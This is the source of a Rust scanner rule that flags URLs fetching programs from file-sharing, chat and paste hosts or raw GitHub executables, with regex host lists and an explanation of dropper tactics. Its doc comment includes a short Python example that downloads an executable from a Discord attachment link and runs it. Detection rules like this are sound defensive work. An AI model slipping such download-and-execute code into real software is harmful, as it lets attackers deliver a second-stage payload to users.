//! # SW-GEN-029: program fetched from a file-sharing host
//!
//! **What it does.** Finds URLs in code that point at a program or
//! script kept on a file-sharing or chat host — Discord attachment
//! links, Dropbox and Google Drive shares, anonymous file drops and paste
//! hosts — or at a Windows executable in a repository's raw files
//! (`raw.githubusercontent.com/…/x.exe`).
//!
//! **Why is this bad.** These links are how droppers fetch their second
//! stage: anyone can upload there, nothing is reviewed, and the link
//! outlives the package's removal. Real software ships its programs in
//! the package or downloads them from its own release pages.
//!
//! **Example.**
//!
//! ```python
//! def update():
//!     data = requests.get("https://cdn.discordapp.com/attachments/1/2/helper.exe").content
//!     open("helper.exe", "wb").write(data); os.startfile("helper.exe")
//! ```
//!
//! **False positives.** Few: a program kept on a chat or file-sharing
//! host has no legitimate place in a published library. Scripts (`.py`,
//! `.sh`, `.js`) in a repository's raw files are not reported, since
//! install guides link them; only Windows executables there are.

use std::sync::LazyLock;

use regex::Regex;

use super::{Context, Emit, Rule};
use crate::model::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-029",
    title: "program fetched from a file-sharing host",
    source: include_str!("gen029_hosted_payload.rs"),
    check,
};

/// A URL on a file-sharing, chat or drop host whose path names a program
/// or script.
static SHARED_PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)https?://(?:cdn\.discordapp\.com/attachments|media\.discordapp\.net/attachments|(?:dl\.|www\.)?dropbox(?:usercontent)?\.com|drive\.google\.com|docs\.google\.com/uc|transfer\.sh|0x0\.st|files\.catbox\.moe|(?:[\w-]+\.)?anonfiles\.com|gofile\.io|(?:www\.)?mediafire\.com|pastebin\.com/raw|paste\.ee/r|rentry\.co)/[^\s'\x22<>]*?\.(?:exe|scr|bat|cmd|ps1|vbs|vbe|js|jse|hta|msi|dll|jar|py|pyw|pyc|pyz|sh|bin|elf|apk|dmg|pkg)(?:[?&#][^\s'\x22<>]*)?(?:$|[\s'\x22<>])",
    )
    .expect("a valid regex")
});

/// A Windows program among a repository's raw files.
static RAW_REPO_PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)https?://raw\.githubusercontent\.com/[^\s'\x22<>]*?\.(?:exe|scr|bat|cmd|ps1|vbs|hta|msi|dll)(?:[?&#][^\s'\x22<>]*)?(?:$|[\s'\x22<>])",
    )
    .expect("a valid regex")
});

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        let shipped = file.role.is_some() || !crate::surface::is_not_shipped(&file.path);
        if !shipped {
            continue;
        }
        let hit = facts.strings.iter().filter(|l| l.value.len() <= 100_000).find_map(|lit| {
            let url = SHARED_PROGRAM
                .find(&lit.value)
                .or_else(|| RAW_REPO_PROGRAM.find(&lit.value))?;
            Some((lit, url.as_str().trim_end_matches(|c: char| c.is_whitespace() || "'\"<>".contains(c))))
        });
        if let Some((lit, url)) = hit {
            out.finding_at_any_stage(
                Severity::Critical,
                lit.stage,
                &file.path,
                Some(lit.line),
                format!("fetches a program from a file-sharing host: `{}`", super::clip(url, 120)),
            );
        }
    }
}
